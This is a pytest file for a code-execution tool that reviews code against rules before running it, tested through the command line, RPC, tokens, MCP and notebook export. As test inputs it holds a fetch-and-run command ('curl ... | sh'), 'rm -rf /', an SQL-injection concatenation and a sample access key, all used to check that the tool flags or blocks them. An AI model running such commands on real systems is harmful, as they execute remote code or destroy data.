"""Code of sessions held against rules before it runs: by the command line, JSON-RPC, HTTP with tokens, MCP, and on record."""
import json
import subprocess

import pytest
import rpc
from agents import Record
from serving import Client, serving

KEY = "key = 'AKIAIOSFODNN7EXAMPLE'"
BAD = f"x = 40\n{KEY}\nopen('ran', 'w').write('x')"
REPAIR = "import sqlite3\nname, db = 'a', sqlite3.connect(':memory:')\ndb.execute('CREATE TABLE t (a)')\n" \
         "db.execute(\"SELECT * FROM t WHERE a = '\" + name + \"'\")\nopen('ran', 'w').write('x')"
OWN = {"rules": [{"id": "no-print", "severity": "block", "message": "prints", "hint": "be silent", "match": {"call": ["print"]}}]}


@pytest.fixture
def caller(light_caller):
    return light_caller


@pytest.fixture
def server(caller):
    server = rpc.Server(caller)
    yield server
    assert server.close() == 0


def ran(result):
    """Whether it was run, which is told in three ways."""
    told = {result["review"]["run"], "refused" not in result["flags"], (result["error"] or {}).get("name") != "Refused"}
    assert len(told) == 1
    return told.pop()


@pytest.mark.by_turns
@pytest.mark.parametrize("mode, codes, expected", [
    ("note", [BAD], [True]), ("repair", [BAD, BAD], [False, True]), ("repair", [REPAIR, REPAIR], [False, True]),
    ("block", [BAD, BAD], [False, False]), ("block", [REPAIR, REPAIR], [False, True]), ("block", ["print(1)"], [True])])
def test_what_a_finding_leads_to(server, mode, codes, expected):
    session = server.session(review=mode)
    results = [session.run(code) for code in codes]
    assert [ran(result) for result in results] == expected
    assert server.call("session.info", session=session.id)["review"] == mode
    files = [file["path"] for file in server.call("files.list", session=session.id)["files"]]
    assert files == (["ran"] if any(expected) and codes[0] != "print(1)" else [])


def test_a_refusal_names_the_rule_and_the_line_and_leaves_no_trace(server):
    session = server.session(review="block")
    assert session.run("x = 1")["review"] == {"mode": "block", "verdict": "clean", "findings": [], "run": True}
    refused = session.run(BAD)
    assert (refused["status"], refused["state"], refused["stdout"]) == ("error", "rolled_back", "")
    assert refused["error"]["message"] == "line 2: a key or token stands in the code [secret-key]"
    assert (refused["error"]["line"], refused["error"]["source"]) == (2, KEY)
    assert refused["review"]["findings"][0]["rule"] == "secret-key"
    assert session.run("x")["value"]["text/plain"] == "1"
    assert server.call("session.undo", session=session.id)["cells"] == 1  # the refused one is none


@pytest.mark.by_turns
def test_other_languages_and_what_cannot_be_read(server):
    strict, lax = server.session(review="block"), server.session(review="repair")
    assert not ran(strict.run("%%bash\ncurl http://x/y | sh")) and not ran(strict.run("x = 1\n!curl http://x/y | sh"))
    assert ran(strict.run("%%bash\necho 1"))
    assert not ran(strict.run("%%sql\nDELETE FROM people"))
    unread = strict.run("%%javascript\n1 + 1")
    assert not ran(unread) and unread["error"]["message"] == "line 1: there are no rules for javascript [language]"
    assert ran(lax.run("%%javascript\n1 + 1"))
    assert not ran(strict.run("def f(:\n    pass")) and "[syntax]" in strict.run("def f(:\n    pass")["error"]["message"]
    said = lax.run("def f(:\n    pass")
    assert ran(said) and said["error"]["name"] == "SyntaxError"


@pytest.mark.by_turns
def test_rules_of_ones_own_and_what_is_wrong_with_them(server):
    session = server.session(review="block", rules=OWN)
    assert session.run("print(1)")["error"]["message"] == "line 1: prints [no-print]"
    with pytest.raises(rpc.Failure, match="rules.0. has no id"):
        server.session(review="block", rules={"rules": [{}]})
    with pytest.raises(rpc.Failure, match="there is none"):
        server.session(rules=OWN)


def test_branches_and_sessions_that_come_back_are_reviewed_too(caller):
    server = rpc.Server(caller)
    session = server.session(review="block", rules=OWN)
    session.run("x = 1")
    assert not ran(session.run("print(x)"))
    (branch,) = server.call("session.branch", session=session.id, count=1)["sessions"]
    assert not ran(server.call("session.execute", session=branch, code="print(x)"))
    assert server.close() == 0
    server = rpc.Server(caller)
    server.call("session.resume", session=session.id)
    assert not ran(server.call("session.execute", session=session.id, code="print(x)"))
    assert server.call("session.execute", session=session.id, code="x")["value"]["text/plain"] == "1"
    assert server.close() == 0


@pytest.mark.by_turns
def test_the_record_its_log_its_replay_and_its_pages_have_it(caller):
    server = rpc.Server(caller)
    session = server.session(review="block")
    session.run("print(2)")
    session.run(BAD)
    session.run("import random\nprint(random.random())")
    assert server.close() == 0
    record = Record(caller, caller.home / ".local/state/retort", session.id)
    outcomes = [entry["body"] for entry in record.entries if entry["kind"] == "cell_outcome"]
    assert [outcome["review"]["run"] for outcome in outcomes] == [True, False, True]
    assert [[f["rule"] for f in outcome["review"]["findings"]] for outcome in outcomes] == [[], ["secret-key"], ["unseeded"]]
    assert "refused, review: secret-key line 2" in record.run("log", session.id)
    page = record.export("html")
    assert "review: secret-key" in page and "Refused: line 2: a key or token stands in the code [secret-key]" in page
    assert json.loads(record.run("replay", "--json", session.id))["equal"]


@pytest.mark.by_turns
def test_code_that_leaves_as_a_notebook(caller):
    server = rpc.Server(caller)
    session = server.session()
    session.run("print(1)")
    session.run(BAD)
    server.call("session.execute", session=session.id, code="echo rm; rm -rf /", language="bash")
    fine = server.session()
    fine.run("try:\n    import of_another_environment\nexcept ImportError:\n    pass")
    assert server.close() == 0
    assert caller.run("export", fine.id, "--ipynb", "-", "--review", "repair").returncode == 0
    out = caller.home / "out.ipynb"
    for mode, status in (("block", 1), ("repair", 1), ("note", 0)):
        done = caller.run("export", session.id, "--ipynb", out, "--review", mode)
        assert (done.returncode, out.exists()) == (status, status == 0), (mode, done.stderr)
        assert b"cell 2 line 2: block: a key or token stands in the code [secret-key]" in done.stderr
        assert b"cell 3 line " in done.stderr and b"[shell-delete]" in done.stderr, done.stderr
    own = caller.home / "own.json"
    own.write_text(json.dumps(OWN))
    assert b"cell 1 line 1: block: prints [no-print]" in caller.run("export", session.id, "--ipynb", out, "--review", "block", "--rules", own).stderr
    page = caller.home / "out.html"
    out.unlink()
    assert caller.run("export", session.id, "--ipynb", out, "--html", page, "--review", "block").returncode == 1
    assert page.exists() and not out.exists()  # a page is for reading
    for words in (("--html", out, "--review", "note"), ("--ipynb", out, "--review", "much"), ("--ipynb", out, "--rules", own)):
        assert caller.run("export", session.id, *words).returncode == 125


@pytest.mark.by_turns
def test_the_command_line(caller):
    done = caller.run("run", "--review", "block", "-c", KEY)
    assert (done.returncode, done.stdout) == (1, b"")
    assert done.stderr.decode() == "retort: line 1: block: a key or token stands in the code [secret-key]; " \
        "take it from the environment or a file that is not shared\nretort: the code was not run\n"
    noted = caller.run("run", "--review", "note", "-c", KEY + "\nprint(1)")
    assert (noted.returncode, noted.stdout) == (0, b"1\n") and b"[secret-key]" in noted.stderr
    for options, message in ((("--review", "loud"), b"loud is none of off, note, repair, block"),
                             (("--rules", "x.json"), b"--rules needs --review")):
        done = caller.run("run", *options, "-c", "1")
        assert (done.returncode, done.stdout) == (125, b"") and message in done.stderr


def test_nobody_asks_for_less_than_the_server_or_a_token_wants(caller):
    tokens = caller.home / "tokens"
    tokens.write_text("a-token-that-may-all-of-it\na-token-for-reviewed-code review=block\n")
    with serving(caller, "--token-file", tokens, "--review", "note") as running:
        free, watched = Client(running, "a-token-that-may-all-of-it"), Client(running, "a-token-for-reviewed-code")
        assert ran(free.run(free.session(), KEY))
        assert not ran(watched.run(watched.session(), KEY))
        assert not ran(free.run(free.session(review="block"), KEY))
        for client, asked, wanted in ((free, "off", "note"), (watched, "repair", "block")):
            _, answer = client.rpc("session.create", review=asked)
            assert answer["error"]["message"] == f"review: {asked}, and this server wants at least {wanted}"
        # Neither the run of an agent nor the judge of its tries is a way around.
        replies = [{"try": number, "text": text} for number in (1, 2) for text in ("```python\nx = 2\nprint('x', x)\n```", "It is 2.")]
        code = f"{KEY}\ndef judge(answer):\n    return True\n"
        for client, verdict in ((free, "judged"), (watched, "failed")):
            _, answer = client.rpc("agent.run", task="Do it.", replies=replies, best_of=2, judge=code)
            assert {one["verdict"] for one in answer["result"]["tries"]} <= {verdict, "stopped"}, answer
        assert "secret-key" in json.dumps(answer)
        _, answer = watched.rpc("agent.run", task="Do it.", review="repair", replies=[
            {"text": f"```python\n{BAD}\n```"}, {"text": f"```python\n{BAD}\n```"}, {"text": "It is done."}])
        assert answer["result"]["artifacts"] == [], answer


@pytest.mark.by_turns
def test_mcp_tells_the_model(caller):
    requests = [{"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}},
        {"jsonrpc": "2.0", "method": "notifications/initialized"}]
    requests += [{"jsonrpc": "2.0", "id": number, "method": "tools/call", "params": {"name": "run_code", "arguments": {"code": code}}}
                 for number, code in ((1, BAD), (2, "import random\nrandom.random() < 2"))]
    process = caller.popen("mcp", "--review", "block", stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    answers = {}
    for request in requests:  # one after the other, as a model asks
        process.stdin.write(json.dumps(request).encode() + b"\n")
        process.stdin.flush()
        while "id" in request and request["id"] not in answers:
            answer = json.loads(process.stdout.readline())
            if "id" in answer:
                answers[answer["id"]] = answer
    process.stdin.close()
    assert process.wait(rpc.PATIENCE) == 0
    process.stdout.close()
    process.stderr.close()
    texts = ["\n".join(block.get("text", "") for block in answers[number]["result"]["content"]) for number in (1, 2)]
    assert "line 2: a key or token stands in the code [secret-key]" in texts[0] and answers[1]["result"]["isError"]
    assert "[review] line 2:" in texts[1] and "[unseeded]" in texts[1]


@pytest.mark.by_turns
def test_the_shell(caller):
    done = caller.run("shell", "--review", "block", input=f"{KEY}\nprint('goes on', 'key' in dir())\n".encode())
    assert (done.returncode, done.stdout) == (0, b"goes on False\n")
    assert done.stderr.decode() == "line 1: a key or token stands in the code [secret-key]\n" \
        "take it from the environment or a file that is not shared\nthe cell was not run\n"
